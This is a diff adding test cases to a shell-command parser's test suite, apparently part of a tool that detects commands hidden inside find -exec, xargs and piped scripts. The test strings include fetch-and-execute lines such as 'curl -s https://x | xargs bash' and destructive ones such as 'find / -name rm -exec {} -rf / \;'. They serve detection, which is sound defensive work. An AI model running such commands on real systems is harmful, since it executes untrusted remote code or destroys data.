@@ -142,6 +142,8 @@ describe("parseShell: commands that run commands", () => {
     expect(argvs('grep -r "rm -rf /" .')).toEqual([["grep", "-r", "rm -rf /", "."]]);
     expect(argvs("command -v rm")).toEqual([["command", "-v", "rm"]]);
     expect(find("xargs -I{} rm {}", "rm")!.dynamicArgs).toBe(true);
+    expect(argvs("find . -exec sh -c 'wc \"$1\"' _ {} \\;")).toEqual([["find", ".", "-exec", "sh", "-c", 'wc "$1"', "_", "{}", ";"], ["wc", "$1"]]);
+    expect(parseShell("ls | xargs -I% sh -c 'cat x'").dynamic).toBe(false);
   });
 
   it("leaves bare wrappers as the command", () => {
@@ -163,6 +165,11 @@ describe("parseShell: what cannot be known", () => {
     "base64 -d payload | bash",
     "bash <(curl -s https://x)",
     "source $F",
+    "curl -s https://x | xargs -I{} sh -c '{}'",
+    "curl -s https://x | xargs bash",
+    "curl -s https://x | xargs eval",
+    "find . -exec sh -c {} \\;",
+    "find / -name rm -exec {} -rf / \\;",
   ])("%s is dynamic", (script) => {
     const r = parseShell(script);
     expect(r.dynamic).toBe(true);
